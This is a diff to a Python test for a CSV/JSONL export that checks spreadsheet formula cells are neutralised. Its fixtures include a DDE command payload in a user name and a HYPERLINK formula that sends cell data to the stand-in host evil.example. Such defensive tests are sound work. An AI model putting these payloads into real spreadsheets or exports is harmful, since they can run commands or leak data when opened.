@@ -105,7 +105,7 @@ def test_csv_has_the_documented_columns_and_every_stored_value(qa_reviewer, qa_a
 def test_it_neutralises_formula_cells_in_the_csv_and_keeps_the_jsonl_exact(qa_reviewer):
     mallory = make_user("qa_reviewer", full_name="+cmd|' /C calc'!A0")
     site = make_site(actor=qa_reviewer, name="Leiden")
-    rename_site(site, "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", actor=mallory, reason="@SUM(A1:A9)")
+    rename_site(site, '=HYPERLINK("http://evil.example/?"&A1,"open")', actor=mallory, reason="@SUM(A1:A9)")
     rename_site(site, "Leiden", actor=qa_reviewer, reason="-1+1")
     rows = list(csv.reader(io.StringIO(export("--format", "csv"))))
     cells = [cell for row in rows for cell in row]
